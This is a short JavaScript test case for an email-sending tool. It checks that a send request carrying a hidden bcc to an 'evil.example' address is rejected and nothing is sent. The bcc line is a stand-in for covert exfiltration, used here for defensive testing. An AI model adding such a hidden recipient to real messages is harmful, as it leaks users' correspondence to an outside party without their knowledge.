// case: ARG-13
// check: warn
// expect: ok
// value: ["invalid-arguments",true]
// calls: box.send=0
try {
  await box.send({ to: "a@corp.example", bcc: "b@evil.example" });
} catch (e) {
  return [e.code, e.message.includes("bcc")];
}
